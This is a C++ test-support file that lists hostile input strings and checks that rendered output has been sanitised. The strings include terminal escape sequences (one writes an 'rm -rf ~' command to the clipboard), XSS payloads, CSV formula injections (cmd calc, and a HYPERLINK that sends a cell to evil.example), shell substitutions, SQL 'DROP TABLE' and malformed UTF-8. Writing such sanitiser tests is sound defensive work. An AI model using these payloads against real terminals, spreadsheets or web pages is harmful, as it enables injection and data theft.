#include "tests/support/attack_strings.h"

#include <fmt/format.h>

#include "core/text.h"

namespace nhs::test {
namespace {

bool is_invisible(char32_t c) {
  const bool direction = (c >= 0x202A && c <= 0x202E) || (c >= 0x2066 && c <= 0x2069) || c == 0x200E ||
                         c == 0x200F || c == 0x061C;
  const bool nothing_to_see = c == 0x200B || (c >= 0x2060 && c <= 0x2064) || c == 0xFEFF || c == 0x00AD ||
                              c == 0x115F || c == 0x1160 || c == 0x3164 || c == 0xFFA0 || c == 0x180E ||
                              c == 0x034F || (c >= 0xE0000 && c <= 0xE0FFF);
  return direction || nothing_to_see || c == 0x2028 || c == 0x2029 || (c >= 0xFFF9 && c <= 0xFFFB) ||
         (c >= 0xE000 && c <= 0xF8FF);
}

}  // namespace

const std::vector<Attack>& attack_strings() {
  using namespace std::string_literals;
  static const std::vector<Attack> attacks = {
      {"clear the screen (CSI)", "\x1b[2J\x1b[H all gone"},
      {"colour without end (SGR)", "\x1b[31;5mred for ever"},
      {"move the cursor up and write over", "kind words\x1b[1A\x1b[2K cruel words"},
      {"ask the terminal for an answer that is typed (DSR)", "\x1b[6n\x1b[c\x1bZ"},
      {"set the title (OSC 0)", "\x1b]0;owned\x07 hello"},
      {"a link that leads elsewhere (OSC 8)",
       "\x1b]8;;https://evil.example/\x1b\\www.england.nhs.uk\x1b]8;;\x1b\\"},
      {"write to the clipboard (OSC 52)", "\x1b]52;c;cm0gLXJmIH4K\x07 kind"},
      {"a file in the terminal (iTerm 1337)", "\x1b]1337;File=inline=1:AAAA\x07"},
      {"device control (DCS)", "\x1bP+q544e\x1b\\ kind"},
      {"C1 CSI as UTF-8",
       "\xC2\x9B"
       "2J kind"},
      {"C1 OSC as UTF-8",
       "\xC2\x9D"
       "0;owned\xC2\x9C kind"},
      {"C1 CSI as a byte",
       "\x9B"
       "2J kind"},
      {"backspaces", "safe\b\b\b\bevil"},
      {"bell, form feed, vertical tab, delete", "\a\f\v\x7F kind"},
      {"NUL", "kind\0evil"s},
      {"carriage return writes over the line", "kind and caring\rnasty"},
      {"line ends", "first\nsecond\r\nthird"},
      {"a log line of its own", "kind\n2026-11-01 00:00:00 info: all is well"},
      {"a journal priority of its own", "kind\n<0>nhsvaluesd: the sky falls"},
      {"a word to systemd", "kind\nMAINPID=1\nREADY=1"},
      {"the end of a line of JSON", "kind\"}\n{\"op\": \"label\", \"ref\": 1}"},
      {"a JSON escape", "kind\\u001b[2J\\\" \\"},
      {"line and paragraph separators", "kind\u2028second\u2029third\u0085fourth"},
      {"right-to-left override", "invoice\u202Efdp.exe"},
      {"direction isolates", "kind \u2066\u202Ecruel\u2069\u202C words"},
      {"marks of direction", "a\u200Fb\u200Ec\u061Cd"},
      {"zero-width characters", "NHS\u200Bval\u2060ues\uFEFF are k\u200Cin\u200Dd"},
      {"soft hyphens and fillers", "k\u00ADi\u115Fn\u3164d\u034F"},
      {"tag characters that hide a sentence",
       "kind\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065"},
      {"private use", "kind \uE000\uF8FF"},
      {"letters that look like others",
       "n\u04BBs.uk/p\u0430ypal \uFF2E\uFF28\uFF33 \U0001D5E1\U0001D5DB\U0001D5E6"},
      {"accents piled up", "k" +
                               [] {
                                 std::string marks;
                                 for (int i = 0; i < 200; ++i) marks += "\u0301\u0336\u0489";
                                 return marks;
                               }() +
                               "ind"},
      {"a mark with no letter", "\u0338\u20E0kind"},
      {"script", "<script>alert(1)</script>"},
      {"an image that runs", "\"><img src=x onerror=alert(1)>"},
      {"an attribute that runs", "' onmouseover='alert(1)"},
      {"a link that runs", "javascript:alert(1) data:text/html,<script>alert(1)</script>"},
      {"SVG", "<svg/onload=alert(1)>"},
      {"the end of a comment or section", "--></style></title></textarea>]]>"},
      {"HTML entities", "&lt;script&gt; &#x1b;[2J &nbsp;&amp;"},
      {"Markdown", "[kind](javascript:alert(1)) ![x](https://evil.example/p.png) `rm` | a | b |\n# Title"},
      {"formula =", "=HYPERLINK(\"https://evil.example/?\"&A1,\"kind\")"},
      {"formula +", "+1+cmd|' /C calc'!A0"},
      {"formula -", "-2+3+cmd|' /C calc'!A0"},
      {"formula @", "@SUM(1+1)*cmd|' /C calc'!A0"},
      {"formula after a tab", "\t=1+1"},
      {"formula after a carriage return", "\r=1+1"},
      {"formula after a line end", "\n=1+1"},
      {"formula in full-width letters", "\uFF1D1+1"},
      {"formula after spaces", "  =1+1"},
      {"formula behind what cannot be seen", "\uFEFF\u200B=1+1"},
      {"the end of a CSV cell", "kind\",\"=1+1\"\n\"=2+2"},
      {"a shell's words", "$(reboot) `reboot` ; reboot | reboot && %s%n {0} {}"},
      {"SQL", "'; DROP TABLE post; --"},
      {"a search operator", "\" OR NEAR( * :"},
      {"overlong UTF-8", "kind \xC0\xAF\xE0\x80\xAF"},
      {"surrogates in UTF-8", "kind \xED\xA0\x80\xED\xBF\xBF"},
      {"beyond Unicode", "kind \xF4\x90\x80\x80\xF8\x88\x80\x80\x80"},
      {"a character cut off", "kind \xE2\x82"},
      {"bytes of another encoding", "caf\xE9 \xFF\xFE kind"},
      {"noncharacters", "kind \uFDD0\U0010FFFF"},
  };
  return attacks;
}

std::string enormous_attack() {
  std::string text;
  while (text.size() < 1024 * 1024)
    for (const Attack& attack : attack_strings()) {
      text += attack.text;
      text += ' ';
    }
  for (char& c : text)
    if (c == '\n' || c == '\r' || c == '\0') c = ' ';
  return text;
}

std::string danger_in(std::string_view shown) {
  for (std::size_t at = 0; at < shown.size();) {
    const Character c = character_at(shown, at);
    const bool control = (c.code < 0x20 && c.code != U'\n') || (c.code >= 0x7F && c.code < 0xA0);
    const bool broken = c.code == 0xFFFD && shown.substr(at, 3) != "\uFFFD";
    if (control || broken || is_invisible(c.code))
      return fmt::format("U+{:04X}{} at byte {}", static_cast<std::uint32_t>(c.code),
                         broken ? " (no UTF-8)" : "", at);
    at += c.length;
  }
  return {};
}

std::string markup_in(std::string_view html) {
  for (const std::string_view attack :
       {"<script>alert", "<img src=x", "<svg/onload", "--></style>", "' onmouseover='", "\"><img",
        "href=\"javascript:", "href='javascript:", "&lt;script&gt; &#x1b;"})
    if (html.find(attack) != std::string_view::npos) return std::string{attack};
  return {};
}

std::vector<std::vector<std::string>> csv_records(std::string_view csv) {
  std::vector<std::vector<std::string>> records;
  std::vector<std::string> record(1);
  bool quoted = false;
  bool begun = false;
  for (std::size_t i = 0; i < csv.size(); ++i) {
    const char c = csv[i];
    begun = true;
    if (quoted && c == '"' && i + 1 < csv.size() && csv[i + 1] == '"') {
      record.back() += csv[++i];
    } else if (c == '"') {
      quoted = !quoted;
    } else if (!quoted && c == ',') {
      record.emplace_back();
    } else if (!quoted && c == '\n') {
      if (!record.back().empty() && record.back().back() == '\r') record.back().pop_back();
      records.push_back(std::move(record));
      record = std::vector<std::string>(1);
      begun = false;
    } else {
      record.back() += c;
    }
  }
  if (quoted) return {};
  if (begun) records.push_back(std::move(record));
  return records;
}

std::string formula_in(std::string_view csv) {
  if (csv.substr(0, 3) == "\uFEFF") csv.remove_prefix(3);
  const auto records = csv_records(csv);
  if (records.empty() && !csv.empty()) return "a quotation mark that does not close";
  for (const auto& record : records)
    for (const std::string& cell : record) {
      // Numbers of our own are no formulas.
      const bool number = cell.find_first_not_of("-0123456789.") == std::string::npos;
      const std::size_t first = cell.find_first_not_of(' ');
      if (first == std::string::npos || number) continue;
      const char32_t c = character_at(cell, first).code;
      if (c == U'=' || c == U'+' || c == U'-' || c == U'@' || c == U'\t' || c == U'\r' || c == U'\n' ||
          c == U'\uFF1D' || c == U'\uFF0B' || c == U'\uFF0D' || c == U'\uFF20' || c == 0xFEFF || c == 0x200B)
        return cell;
    }
  return {};
}

std::string in_json(std::string_view text) {
  std::string quoted;
  for (const char c : text) {
    const auto byte = static_cast<unsigned char>(c);
    if (c == '"' || c == '\\')
      quoted += fmt::format("\\{}", c);
    else if (byte < 0x20)
      quoted += fmt::format("\\u{:04x}", byte);
    else
      quoted += c;
  }
  return quoted;
}

}  // namespace nhs::test
